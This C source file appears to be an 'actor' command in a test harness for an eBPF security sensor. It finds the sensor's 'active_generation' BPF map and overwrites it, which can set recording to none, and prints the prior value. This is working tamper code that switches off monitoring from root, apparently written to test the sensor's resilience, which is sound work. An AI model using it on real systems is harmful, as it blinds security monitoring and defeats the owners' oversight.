// The attack of root on the sensor: its programs ask one of their maps whether they are to record.

#include "actor.h"
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static int bpf(int command, union bpf_attr *attributes)
{
	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
}

// The map of this name, as far as the kernel keeps names, or -1.
static int map_named(const char *name)
{
	union bpf_attr next = {};

	while (!bpf(BPF_MAP_GET_NEXT_ID, &next)) {
		struct bpf_map_info information = {};
		union bpf_attr open = { .map_id = next.next_id };
		int fd = bpf(BPF_MAP_GET_FD_BY_ID, &open);
		union bpf_attr ask = { .info = { fd, sizeof(information), (__u64)&information } };

		next = (union bpf_attr){ .start_id = open.map_id };
		if (fd >= 0 && !bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) &&
		    !strncmp(information.name, name, sizeof(information.name) - 1))
			return fd;
		close(fd);
	}
	return -1;
}

// generation VALUE: says to all programs of which generation those are that record, 0 for none; prints what stood there.
static int generation(char **args)
{
	__u32 key = 0, before, value = atoi(args[0]);
	union bpf_attr element = { .map_fd = map_named("active_generation"), .key = (__u64)&key, .value = (__u64)&before };

	if (bpf(BPF_MAP_LOOKUP_ELEM, &element))
		fail("cannot read", "active_generation");
	element.value = (__u64)&value;
	if (bpf(BPF_MAP_UPDATE_ELEM, &element))
		fail("cannot write", "active_generation");
	printf("%u\n", before);
	return 0;
}

const struct command sensor_commands[] = {
	{ "generation", 1, generation },
	{ NULL, 0, NULL },
};
